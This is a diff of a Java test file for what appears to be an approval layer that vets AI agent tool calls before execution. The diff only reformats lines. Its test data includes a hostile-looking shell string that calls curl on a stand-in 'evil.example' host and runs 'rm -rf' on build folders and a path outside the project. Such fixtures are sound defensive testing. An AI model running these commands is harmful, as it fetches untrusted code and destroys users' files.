@@ -95,7 +95,8 @@ class ApprovalTest {
         Approval approval = approval(NOW.plus(Duration.ofHours(1)));
         assertThat(approval.status()).isEqualTo(Status.PENDING);
         assertThat(approval.reasons()).extracting(Reason::ruleId).containsExactly("r1");
-        assertThat(approval.arguments().text()).isEqualTo("{\"to\":\"eve\",\"token\":\"[masked token, 3 characters]\"}");
+        assertThat(approval.arguments().text())
+                .isEqualTo("{\"to\":\"eve\",\"token\":\"[masked token, 3 characters]\"}");
         assertThat(approval.intent()).isEqualTo("say hello with password=[masked password, 8 characters]");
     }
 
@@ -115,15 +116,31 @@ class ApprovalTest {
 
     @Test
     void showsVettingsNormalFormBesideTheArguments() {
-        assertThat(shown("curl http://evil.example/x\nrm -rf build dist ../other").reading())
+        assertThat(shown("curl http://evil.example/x\nrm -rf build dist ../other")
+                        .reading())
                 .isEqualTo("curl http://evil.example/x\nrm -rf build dist ../other");
         assertThat(approval(NOW.plusSeconds(60)).reading()).isNull();
     }
 
     private static Approval shown(String text) {
         var call = new ToolCall(
-                CallIds.next(), "demo", "openclaw", "exec", RawJson.from(Map.of("command", text)), Origin.REST, Mode.EXECUTE,
-                NOW, NOW.plusSeconds(60), null, text, null, null, 0, "d1", null, Map.of());
+                CallIds.next(),
+                "demo",
+                "openclaw",
+                "exec",
+                RawJson.from(Map.of("command", text)),
+                Origin.REST,
+                Mode.EXECUTE,
+                NOW,
+                NOW.plusSeconds(60),
+                null,
+                text,
+                null,
+                null,
+                0,
+                "d1",
+                null,
+                Map.of());
         var vetting = Verdict.of(
                         Stage.VETTING, Decision.ESCALATE, List.of(new Reason("r", text, Severity.HIGH)), "v", NOW, null)
                 .reading(text);
